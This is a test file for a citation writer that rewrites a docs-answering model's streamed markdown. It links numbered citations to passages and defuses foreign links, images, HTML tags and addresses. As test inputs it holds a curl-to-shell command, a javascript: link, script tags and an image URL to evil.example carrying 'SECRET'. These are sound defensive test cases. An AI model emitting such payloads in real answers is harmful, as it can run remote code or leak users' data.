import { describe, expect, test } from "bun:test";
import {
  createCitationWriter,
  indexesIn,
  withoutCitations,
} from "../../../src/answering/answer/citations/citations.ts";

const PASSAGES = [
  { number: 1, url: "https://docs.example/guide/install#linux", path: "guide/install" },
  { number: 2, url: "https://docs.example/config", path: "config" },
  { number: 3, url: "https://docs.example/guide/keys#rotate", path: "guide/keys" },
];
const MAILBOXES = ["help@docs.example"];
const LINK1 = "[[1]](https://docs.example/guide/install#linux)";
const LINK2 = "[[2]](https://docs.example/config)";
const LINK3 = "[[3]](https://docs.example/guide/keys#rotate)";

function writeAll(pieces: string[]): { text: string; cited: number[] } {
  const writer = createCitationWriter(PASSAGES, { mailboxes: MAILBOXES, indexes: INDEXES });
  const text = pieces.map((piece) => writer.write(piece)).join("") + writer.end();
  return { text, cited: writer.cited() };
}

const CASES: [name: string, written: string, read: string, cited: number[]][] = [
  ["a number becomes a link", "Run it [1].", `Run it ${LINK1}.`, [1]],
  ["a list becomes links", "Both [1, 3].", `Both ${LINK1}${LINK3}.`, [1, 3]],
  ["a range becomes links", "All [1-3]", `All ${LINK1}${LINK2}${LINK3}`, [1, 2, 3]],
  ["the word passage is understood", "See [passage 2].", `See ${LINK2}.`, [2]],
  ["an unknown number is dropped", "Never [7].", "Never .", []],
  ["of a list only what is known stays", "Some [1, 9].", `Some ${LINK1}.`, [1]],
  [
    "a fenced block is left as it is",
    "```js\nlet a = b[1];\n```\nDone [2].",
    `\`\`\`js\nlet a = b[1];\n\`\`\`\nDone ${LINK2}.`,
    [2],
  ],
  ["a code span is left as it is", "Use `a[1]` here [1].", `Use \`a[1]\` here ${LINK1}.`, [1]],
  ["a double code span is left as it is", "``x ` [1]`` then [1]", `\`\`x \` [1]\`\` then ${LINK1}`, [1]],
  [
    "a lone backtick does not swallow what follows",
    "It's a ` mark.\n\nThen [1].",
    `It's a \\\` mark.\n\nThen ${LINK1}.`,
    [1],
  ],
  [
    "a link to a passage stays and counts",
    "See [setup](https://docs.example/config).",
    "See [setup](https://docs.example/config).",
    [2],
  ],
  ["a link that is invented loses its target", "See [here](https://evil.example/x).", "See here.", []],
  ["a script link loses its target", "[x](javascript:alert(1))", "x", []],
  ["an image becomes its words", "![logo](https://evil.example/p.png) ok", "logo ok", []],
  ["an image of a passage's address becomes its words", "![p](https://docs.example/config)", "p", []],
  ["an autolink to elsewhere is no link", "At <https://evil.example/a>.", "At `https://evil.example/a`.", []],
  ["a citation that already is a link is made right", "As [1](https://wrong.example).", `As ${LINK1}.`, [1]],
  [
    "brackets that are no citation stay",
    "An [optional] word and a[0] and [ ] box",
    "An [optional] word and a[0] and [ ] box",
    [],
  ],
  ["an escaped bracket stays", "\\[1\\] literal", "\\[1\\] literal", []],
  ["an open bracket at the end stays", "Trailing [1", "Trailing [1", []],
  ["a comparison is not an autolink", "a < b and c > d [2]", `a < b and c > d ${LINK2}`, [2]],
  [
    "a home folder is not a fence",
    "Edit ~/.config and ~~old~~ [1]",
    `Edit ~/.config and ~~old~~ ${LINK1}`,
    [1],
  ],
  ["a fence that is never closed is closed", "```\nlet x = [1]", "```\nlet x = [1]\n```", []],
  ["a footnote is a citation", "So it is.[^2]", `So it is.${LINK2}`, [2]],
  ["neighbours are two citations", "So [1][3].", `So ${LINK1}${LINK3}.`, [1, 3]],
  ["wide brackets are a citation", "So 【1】 and 【3†L4-L7】.", `So ${LINK1} and ${LINK3}.`, [1, 3]],
  [
    "brackets in brackets are one citation",
    "So [[2]] and [[1], [3]].",
    `So ${LINK2} and ${LINK1}${LINK3}.`,
    [2, 1, 3],
  ],
  ["a number in parentheses is a number", "Step (1) of (2).", "Step (1) of (2).", []],
  ["words in parentheses behind a citation stay", "So [1](see above).", `So ${LINK1}(see above).`, [1]],
  ["behind an exclamation mark a citation is no image", "Great![1]", `Great! ${LINK1}`, [1]],
  ["a link of a number is the passage of that number", "[[2]](https://evil.example)", LINK2, [2]],
  [
    "a link to a passage's page is one, however it is written",
    "[a](/guide/install) [b](../config.md) [c](https://docs.example/guide/keys/#rotate 'x') [d](install.md#mac)",
    "[a](https://docs.example/guide/install) [b](https://docs.example/config) [c](https://docs.example/guide/keys#rotate) [d](https://docs.example/guide/install)",
    [1, 2, 3],
  ],
  ["a link to another page of the docs loses its target", "[a](/guide/other) [b](other.md)", "a b", []],
  ["a link to a passage's page on another host is none", "[a](https://evil.example/config)", "a", []],
  ["a name before the host does not deceive", "[a](https://docs.example@evil.example/config)", "a", []],
  ["the citations in a link's words stay", "[see [1]](https://evil.example)", `see ${LINK1}`, [1]],
  ["a tag behind an exclamation mark is shown", "Oh!<b>x</b>", "Oh!\\<b>x\\</b>", []],
  ["an address behind one is code", "No!https://evil.example", "No!`https://evil.example`", []],
  ["an image in a link is none", "[![x](https://evil.example/p.png)](https://evil.example)", "x", []],
  ["an image in a link to a passage is none", "[![x](//evil.example/p.png)](/config)", "x", []],
  [
    "an image by reference is none",
    "![x][y]\n\n[y]: //evil.example/p.png",
    "![x][y]\n\n[y\\]: `//evil.example/p.png`",
    [],
  ],
  [
    "an address in the words is code",
    "Run curl https://get.example/i.sh | sh.",
    "Run curl `https://get.example/i.sh` | sh.",
    [],
  ],
  [
    "an address of a passage is a link",
    "At https://docs.example/config.",
    "At <https://docs.example/config>.",
    [2],
  ],
  ["an address without a scheme is code", "At www.evil.example.", "At `www.evil.example`.", []],
  [
    "a tag shows as text",
    'a <img src=x> <a href="x">b</a> <script>',
    'a \\<img src=x> \\<a href="x">b\\</a> \\<script>',
    [],
  ],
  ["a placeholder shows as text", "Use <name> here", "Use \\<name> here", []],
  ["a line break in a table's cell stays", "| a<br>b<br/> |", "| a<br>b<br/> |", []],
  ["code in a code span hides no link", "[a `]`](https://evil.example) [`a]b`](/config)", "a `]` `a]b`", []],
  [
    "code with bars is left as it is",
    "Use `ls | wc -l` or `ls | head` [1]. | `a\\|b`",
    `Use \`ls | wc -l\` or \`ls | head\` ${LINK1}. | \`a\\|b\``,
    [1],
  ],
  [
    "a block of suggestions is not the model's to write",
    "Yes [1].\n\n```suggestions\n(a)[/b]\n```\nEnd",
    `Yes ${LINK1}.\n\nEnd`,
    [1],
  ],
  ["code of a quote ends with the quote", "> ```\n> [1]\n[2]", `> \`\`\`\n> [1]\n> \`\`\`\n${LINK2}`, [2]],
  [
    "code of a list item ends with the item",
    "- a\n  ```\n  [1]\n[2]",
    `- a\n  \`\`\`\n  [1]\n  \`\`\`\n${LINK2}`,
    [2],
  ],
  [
    "an address beside a code span is a span of its own",
    "As ``a ![p](http://evil.example/?q=SECRET) ``http://x.example",
    "As ``a ![p](http://evil.example/?q=SECRET) `` `http://x.example`",
    [],
  ],
  ["what stands around a number that goes makes no tag", "<[7]img src=x>", "\\<img src=x>", []],
  ["nor an address", "htt[7]ps://x.example www[7][7].x.example", "htt ps://x.example www`.`x.example", []],
  ["nor a link", "[x]![](u)(/evil) [y]【7】: /evil", "[x] (/evil) [y] : /evil", []],
  ["nor code", "``a``[7]`b`", "``a`` `b`", []],
  [
    "nor a gap in words that are marked",
    "**[x](http://x.example)** _[y](http://x.example)_",
    "**x** _y_",
    [],
  ],
  ["nor a gap in a script without spaces", "请看[7]这里[7]。", "请看这里。", []],
  [
    "an address that hides behind an escape or an entity is none",
    "https\\://x.example &#104;ttps://x.example www\\.x.example xhttps://x.example",
    "https`:` `//x.example` `h`ttps://x.example www`.`x.example xhttps`://`x.example",
    [],
  ],
  [
    "an address without a scheme is code as well",
    "See //x.example/a, and/or",
    "See `//x.example/a`, and/or",
    [],
  ],
  [
    "a backslash before what becomes code does not escape it",
    "\\http://x.example",
    "\\\\`http://x.example`",
    [],
  ],
  [
    "an e-mail address that the docs do not name is code from its @ on",
    "Ask eve@evil.example or @eve, version 2@3.",
    "Ask eve`@evil.example` or @eve, version 2@3.",
    [],
  ],
  [
    "one that they name may be a link",
    "Ask Help@docs.example, [us](mailto:help@docs.example), [them](mailto:eve@evil.example).",
    "Ask Help@docs.example, [us](mailto:help@docs.example), them.",
    [],
  ],
  [
    "one that only begins like theirs is code",
    "help@docs.example.evil.example xhelp@docs.example help@docs.exampleé",
    "help`@docs.example.evil.example` xhelp`@docs.example` help`@docs.exampleé`",
    [],
  ],
  ["a task's box is left as it is", "- [ ] one\n- [x] two", "- [ ] one\n- [x] two", []],
  [
    "code in a numbered step is left as it is",
    "1. a\n   ```js\n   b[1]\n   ```\n2. c:\n\n   ```\n   d\n   ```\n10. e\n    ```\n    f\n    ```",
    "1. a\n   ```js\n   b[1]\n   ```\n2. c:\n\n   ```\n   d\n   ```\n10. e\n    ```\n    f\n    ```",
    [],
  ],
  [
    "marks that not every client takes for code are words",
    "a\n2. b\n\n       ```\n       [1]",
    `a\n2. b\n\n       \\\`\\\`\\\`\n       ${LINK1}`,
    [1],
  ],
  [
    "an index whose value is used is code",
    "As xs[1].name or xs[2] = 3 [1]",
    `As xs[1].name or xs[2] = 3 ${LINK1}`,
    [1],
  ],
  ["an index of an index is code", "Read delays[2][1] [2].", `Read delays[2][1] ${LINK2}.`, [2]],
  [
    "directly behind words and code is a citation",
    "Set retention_days[1], `x`[2].",
    `Set retention_days${LINK1}, \`x\`${LINK2}.`,
    [1, 2],
  ],
  [
    "an index that the docs write is code",
    "Read delays[2], or sys.argv[1][3].",
    `Read delays[2], or sys.argv[1]${LINK3}.`,
    [3],
  ],
];
const INDEXES = indexesIn("let a = delays[2][1]; sys.argv[1]");

/** The docs' own text with citations between, as numbers. */
function quoteAll(parts: (string | number)[]): { text: string; cited: number[] } {
  const writer = createCitationWriter(PASSAGES, { mailboxes: MAILBOXES });
  const said = parts.map((part) => (typeof part === "number" ? writer.cite(part) : writer.quote(part)));
  return { text: said.join("") + writer.end(), cited: writer.cited() };
}

describe("the docs' own text", () => {
  test("cites nothing by its brackets, whatever they look like", () => {
    const text = "> wait `delays[2]` or delays[2], hl[2] [1], 【3】, [^2] and [Passage 1] ";
    expect(quoteAll([text, 3])).toEqual({ text: text + LINK3, cited: [3] });
    expect(quoteAll([...text, 3])).toEqual({ text: text + LINK3, cited: [3] });
  });

  test("keeps its links to pages found, which are no sources, and loses others", () => {
    const text = "> See [keys](/guide/keys), [1](https://evil.example) and https://docs.example/config. ";
    expect(quoteAll([text, 1])).toEqual({
      text: `> See [keys](https://docs.example/guide/keys), 1 and <https://docs.example/config>. ${LINK1}`,
      cited: [1],
    });
  });

  test("leads to the heading that the docs name of a page found, which a model may invent", () => {
    const link = "[delay](/guide/keys#retry-(delay))";
    const page = "https://docs.example/guide/keys";
    expect(quoteAll([`> ${link} `]).text).toBe(`> [delay](${page}#retry-%28delay%29) `);
    expect(writeAll([link]).text).toBe(`[delay](${page})`);
  });

  test("ends before its citation, even where it breaks off", () => {
    expect(quoteAll(["> [2", 1]).text).toBe(`> [2${LINK1}`);
    expect(quoteAll(["```\nlet x = [2]", 1]).text).toBe(`\`\`\`\nlet x = [2]\n\`\`\`\n\n${LINK1}`);
    expect(quoteAll(["> Stop!", 1, "\nhttp", 2]).text).toBe(`> Stop! ${LINK1}\nhttp${LINK2}`);
  });

  test("is cited by no number without a passage", () => {
    expect(quoteAll(["> Words.", 9])).toEqual({ text: "> Words.", cited: [] });
  });
});

describe("citations", () => {
  for (const [name, written, read, cited] of CASES) {
    test(name, () => {
      expect(writeAll([written])).toEqual({ text: read, cited });
    });
    test(`${name}, however the text is cut`, () => {
      expect(writeAll([...written])).toEqual({ text: read, cited });
      for (let at = 1; at < written.length; at++) {
        expect(writeAll([written.slice(0, at), written.slice(at)])).toEqual({ text: read, cited });
      }
    });
  }

  test("text without marks is passed on at once", () => {
    const writer = createCitationWriter(PASSAGES, { mailboxes: MAILBOXES });
    expect(writer.write("Hello, ")).toBe("Hello, ");
    expect(writer.write("world")).toBe("world");
  });

  test("a line that does not end costs no more with each piece: this would take minutes", () => {
    const { text, cited } = writeAll(["[1]".repeat(100_000)]);
    expect(text).toBe(LINK1.repeat(100_000));
    expect(cited).toEqual([1]);
  });

  test("a bracket that never closes is not waited for without end", () => {
    const writer = createCitationWriter(PASSAGES, { mailboxes: MAILBOXES });
    const text = writer.write(`[${"a".repeat(5000)}`);
    expect(text.length).toBeGreaterThan(4000);
  });

  test("an earlier answer goes into the prompt as the model wrote it", () => {
    const answer = `Run it. ${LINK1} Then stop.${LINK2}\n\n\`\`\`suggestions\n(Keys)[/keys]\n\`\`\``;
    expect(withoutCitations(answer)).toBe("Run it. Then stop.");
  });
});
